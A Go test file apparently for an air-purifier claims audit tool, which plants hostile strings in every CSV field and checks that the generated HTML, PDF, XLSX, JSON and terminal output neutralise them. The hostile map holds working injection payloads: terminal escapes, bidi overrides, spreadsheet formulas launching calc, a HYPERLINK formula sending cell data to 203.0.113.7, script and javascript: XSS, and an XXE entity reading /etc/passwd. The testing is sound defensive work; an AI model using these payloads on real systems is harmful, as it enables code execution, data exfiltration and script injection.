package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode"
)

// hostile are texts that a stranger may write into any field of a case, to act on whoever opens what is made of it.
var hostile = map[string]string{
	// colours, a window's title, the clipboard, an image, one-byte escapes, a good word overwritten
	"terminal": "a\x1b[31;1mb\x1b[0m \x1b]0,owned\x07 \x1b]52\x1b\\ \u009b31mb\u0090x\u009c good\b\b\b\bevil\vgood \x7f\x1bc",
	// the order of a line turned, characters without a mark, tags, line and paragraph separators
	"order":                "abc\u202egpj.exe\u202c\u2066x\u2069\u200f a\u200b\u2060\ufeff\u00adb\u2028c\u2029d a\U000e0041\U000e0042b",
	"formula":              "=cmd|'/C calc'!A0",
	"formula of a link":    `=HYPERLINK("http://203.0.113.7/?q="&A1,"open")`,
	"formula by plus":      "+1+cmd|'/C calc'!A0",
	"formula by minus":     "-1+cmd|'/C calc'!A0",
	"formula by at":        "@SUM(1+1)*cmd|'/C calc'!A0",
	"formula after spaces": "\t =1+cmd|'/C calc'!A0",
	"formula, wide":        "\uff1d1+1",
	"page": `<script>alert(1)</script> "'><img src=x onerror=alert(1)><svg onload=alert(1)> --><script>alert(1)</script><!-- </style></title></textarea><script>alert(1)</script>` +
		` javascript:alert(1) [a](javascript:alert(1)) https://203.0.113.7/<script>alert(1)</script>`,
	"link":    "javascript:alert(1)",
	"data":    "data:text/html,<script>alert(1)</script>",
	"program": `{{.}} ${7*7} %s%n%x <%= 1 %> ) Tj ET >> endstream endobj /OpenAction << /S /JavaScript /JS (app.alert(1)) >> ( ]]></t><f>1+1</f><!ENTITY x SYSTEM "file:///etc/passwd">&x, _x001B_[31m _x0000_ _x000D_`,
	"scripts": "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 🦊👩‍👩‍👧 𒀀 מכשיר شاشة a" + strings.Repeat("\u0301", 200) + " \ufffe\uffff\ufdd0",
	"long":    strings.Repeat("w", 10_000) + " " + strings.Repeat("line\n", 100),
}

// hostileCase writes a case that holds the text in every field that takes any text, and in names of columns, tables and
// rows. Fields with fixed words stay sound, so that the case is read.
func hostileCase(t *testing.T, dir, s, price string) {
	t.Helper()
	table := func(name string, rows ...[]string) {
		t.Helper()
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	table("spec/product.csv", []string{"field", "value", s + " column"}, []string{"maker", s}, []string{"model", s}, []string{"variant", s}, []string{"region", s},
		[]string{"price", s}, []string{"currency", s}, []string{"listing", s}, []string{s, s})
	head := []string{"id", "attribute", "value", "unit", "bound", "setting", "particle", "basis", "wording", "source", "captured", "evidence", s}
	table("spec/claims.csv", head,
		[]string{s, "delivery rate", "300", "m3/h", "", s, "smoke", s, s, s, "2026-04-20", "captures/page.html", s},
		[]string{s + " 2", "noise", "52", "dB(A)", "", s, "", s + "; 1 m", s, s, "", "", ""},
		[]string{s + " 3", "power", "45", "W", "", s, "", "", s, s, "", "", ""},
		[]string{s + " 4", "filter grade", "", "", "", "", "", s, "True HEPA " + s + " removes 99.97 %", s, "", "", ""})
	table("spec/reply.csv", []string{"sent", "channel", "deadline", "received", "text"}, []string{"2026-06-01", s, "2026-06-15", "2026-06-10", s})
	table("spec/notes.csv", []string{s})
	table("captures/page.html", []string{s})
	table("lab/test.csv", []string{"field", "value"}, []string{"tester", s}, []string{"sample", s}, []string{"temperature", s}, []string{"humidity", s}, []string{"notes", s}, []string{"customer", s}, []string{"weather " + s, s})
	table("lab/room.csv", []string{"item", "value", "unit", "±"}, []string{"volume", "45", "m3", "0.5"}, []string{s, "1", "", ""})
	table("lab/instruments.csv", []string{"id", "measures", "serial", "calibrated", "accuracy", "note"}, []string{s, s, s, s, "10 %", s}, []string{"W", "power", s, s, "2 % + 0.5 W", s})
	table("lab/decay.csv", []string{"run", "state", "setting", "particle", "log", "time", "value", "background", "background ±", "instrument"},
		[]string{"off " + s, "off", "", "smoke", "logs/off.csv", "time", "pm1 " + s, "2", "0.5", s},
		[]string{s, "on", s, "smoke", "logs/on.csv", "time", "pm1 " + s, "2", "0.5", s})
	table("lab/sound.csv", []string{"setting", "distance", "level [dB(A)]", "background", "instrument"}, []string{s, "1", "54", "24", s})
	table("lab/power.csv", []string{"setting", "watts", "instrument"}, []string{s, "46", "W"})
	table("lab/costs.csv", []string{"item", "value", "currency", "option"}, []string{"electricity", price, s, ""}, []string{"hours per day", "12", "", ""}, []string{"filter", "45", s, s}, []string{"filters per year", "1", "", s})
	table("lab/tolerances.csv", []string{"attribute", "tolerance", "unit", "source"}, []string{"carbon mass", "3", "%", s})
	for name, k := range map[string]float64{"off": 0.2, "on": 6} {
		rows := [][]string{{"time [s]", "pm1 " + s}}
		for at := 0; at <= 2400; at += 60 {
			rows = append(rows, []string{strconv.Itoa(at), strconv.FormatFloat(2+300*math.Exp(-k*float64(at)/3600), 'f', 1, 64)})
		}
		table("logs/"+name+".csv", rows...)
	}
}

// TestHostileFields puts each hostile text into every field and runs the commands over it. Nothing that is printed steers
// a terminal; no output holds an element, a formula, a link or an action that the text has made.
func TestHostileFields(t *testing.T) {
	if testing.Short() {
		t.Skip("writes some hundred files")
	}
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := filepath.Join(t.TempDir(), "case")
			hostileCase(t, dir, s, "0.31")
			audited := call(t, exitDone, "audit", dir, "--format", "pdf,json,html,xlsx", "--date", "2026-08-03")
			if !audited {
				return
			}
			plainPage(t, filepath.Join(dir, "audit.html"))
			plainWorkbook(t, filepath.Join(dir, "audit.xlsx"))
			plainPDF(t, filepath.Join(dir, "audit.pdf"))
			plainJSON(t, filepath.Join(dir, "audit.json"))
			call(t, exitDone, "verify", dir)
			call(t, exitDone, "verify", "--format", "json", dir)
			other := filepath.Join(t.TempDir(), "other")
			hostileCase(t, other, s, "0.32")
			out := t.TempDir()
			call(t, exitDone, "audit", dir, other, "--format", "json", "--log-format", "json", "--out", out)
			for _, f := range []string{"index.csv", "index.html"} {
				plainTable(t, filepath.Join(out, f))
			}
			call(t, exitDone, "audit", dir, other, "--format", "json", "--out", out)
			call(t, exitDone, "rank", dir, other, "--format", "pdf,html,csv,json", "--out", out, "--date", "2026-08-03")
			plainTable(t, filepath.Join(out, "ranking.csv"))
			plainTable(t, filepath.Join(out, "ranking.html"))
			plainPDF(t, filepath.Join(out, "ranking.pdf"))
			plainJSON(t, filepath.Join(out, "ranking.json"))
			for _, to := range []string{"maker", "authority"} {
				call(t, exitUsage, "letter", dir, "--to", to, "--out", out, "--body", s)
				args := []string{"letter", dir, "--to", to, "--format", "pdf,txt", "--out", out, "--date", "2026-08-03"}
				bundle := filepath.Join(out, "bundle.zip")
				if to == "authority" {
					args = append(args, "--bundle", bundle)
				}
				if !call(t, exitDone, args...) {
					continue
				}
				plainPDF(t, only(t, filepath.Join(out, "*"+to+"*.pdf")))
				text, err := os.ReadFile(only(t, filepath.Join(out, "*"+to+"*.txt")))
				if err != nil {
					t.Error(err)
				}
				text = []byte(strings.NewReplacer("\u200c", "", "\u200d", "").Replace(string(text))) // joiners, which some scripts need
				if i := steers(string(text)); i >= 0 {
					t.Errorf("the letter to %s holds %q", to, text[max(0, i-40):min(len(text), i+40)])
				}
				if to == "authority" {
					plainManifest(t, bundle)
				}
			}
			call(t, -1, "decay", filepath.Join(dir, "logs", "on.csv"), "--volume", "45 m3", "--value", "column 2")
			call(t, -1, "decay", filepath.Join(dir, "logs", "on.csv"), "--volume", "45 m3", "--value", "column 2", "--format", "json")
			call(t, -1, "decay", filepath.Join(dir, "logs", "on.csv"), "--volume", "45 m3", "--value", s+"x", "--time", s)
			call(t, -1, "decay", filepath.Join(dir, s), "--volume", s)
			for _, ending := range []string{"txt", "html"} {
				page := filepath.Join(dir, "page."+ending)
				filler := strings.Repeat("This unit cleans the air of a room. ", 40) // else it is refused as no text
				if err := os.WriteFile(page, []byte(filler+"\n"+s+"\nTrue HEPA "+s+" removes 99.97 % of particles\n\nCADR 300 m3/h "+s), 0o644); err != nil {
					t.Fatal(err)
				}
				call(t, exitDone, "vet", page)
				call(t, exitDone, "vet", page, "--format", "json")
				if call(t, exitDone, "vet", page, "--format", "html,pdf,json", "--out", out) {
					plainJSON(t, filepath.Join(out, "vet.json"))
					plainTable(t, filepath.Join(out, "vet.html"))
					plainPDF(t, filepath.Join(out, "vet.pdf"))
				}
				if saved := filepath.Join(out, "saved "+ending); call(t, -1, "vet", page, "--save", saved, "--csv", "--date", "2026-08-03") {
					plainTable(t, filepath.Join(saved, "spec", "product.csv"))
					plainTable(t, filepath.Join(saved, "spec", "claims.csv"))
					call(t, exitDone, "audit", saved, "--format", "json", "--date", "2026-08-03")
				}
			}
			call(t, -1, "rules", s)
			call(t, -1, "audit", filepath.Join(dir, s))
			call(t, -1, "audit", "--date", s, "--format", s, dir)
			call(t, -1, s)
			call(t, -1, "audit", "--log-format", "json", filepath.Join(dir, s))
			claims := filepath.Join(dir, "spec", "claims.csv")
			if data, err := os.ReadFile(claims); err != nil || os.WriteFile(claims, bytes.Replace(data, []byte("300"), []byte("310"), 1), 0o644) != nil {
				t.Fatal("the claims cannot be changed")
			}
			call(t, exitFailed, "verify", dir)
			call(t, exitFailed, "verify", "--format", "json", dir)
			// A fault in every table, so that the text stands in errors.
			wrong := filepath.Join(t.TempDir(), "wrong")
			hostileCase(t, wrong, s, "0.33")
			for _, f := range []string{"spec/claims.csv", "lab/decay.csv", "lab/room.csv", "lab/costs.csv", "lab/tolerances.csv"} {
				p := filepath.Join(wrong, filepath.FromSlash(f))
				data, err := os.ReadFile(p)
				if err != nil {
					t.Fatal(err)
				}
				faulty := strings.NewReplacer("smoke", "soot", "volume", "x", "noise", "nois", "carbon mass", "grade", "logs/on", "logs/none").Replace(string(data))
				if err := os.WriteFile(p, []byte(faulty), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			call(t, exitFailed, "audit", wrong)
			call(t, exitFailed, "audit", wrong, other, "--out", out, "--log-format", "json")
		})
	}
	t.Run("rules", func(t *testing.T) {
		for _, format := range []string{"text", "json", "csv"} {
			call(t, exitDone, "rules", "--format", format)
		}
		var out bytes.Buffer
		run([]string{"rules", "--format", "csv"}, nil, &out, &out)
		path := filepath.Join(t.TempDir(), "rules.csv")
		if err := os.WriteFile(path, out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		plainTable(t, path)
		blank := filepath.Join(t.TempDir(), "blank")
		call(t, exitDone, "new", blank, "--csv")
		forms, err := filepath.Glob(filepath.Join(blank, "*", "*.csv"))
		if err != nil || len(forms) < 10 {
			t.Errorf("%d forms, %v", len(forms), err)
		}
		for _, f := range forms {
			plainTable(t, f)
		}
	})
}

// call runs a command and checks that what it prints steers no terminal. It reports whether it ended as wanted; -1 takes
// any ending but a panic.
func call(t *testing.T, want int, args ...string) bool {
	t.Helper()
	var out, errOut bytes.Buffer
	got := run(args, strings.NewReader(""), &out, &errOut)
	shown := fmt.Sprintf("%.60q", args)
	for name, text := range map[string]string{"standard output": out.String(), "standard error": errOut.String()} {
		if i := steers(text); i >= 0 {
			t.Errorf("%s: %s holds %q", shown, name, text[max(0, i-40):min(len(text), i+40)])
		}
	}
	if want >= 0 && got != want {
		t.Errorf("%s: exit status %d\n%.2000s", shown, got, errOut.String())
	}
	return got == exitDone
}

// steers finds a character that a terminal does not print but obeys, or that turns the order of a line.
func steers(text string) int {
	for i, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029') {
			return i
		}
	}
	return -1
}

func only(t *testing.T, pattern string) string {
	t.Helper()
	found, err := filepath.Glob(pattern)
	if err != nil || len(found) != 1 {
		t.Fatalf("%s: %v %v", pattern, found, err)
	}
	return found[0]
}
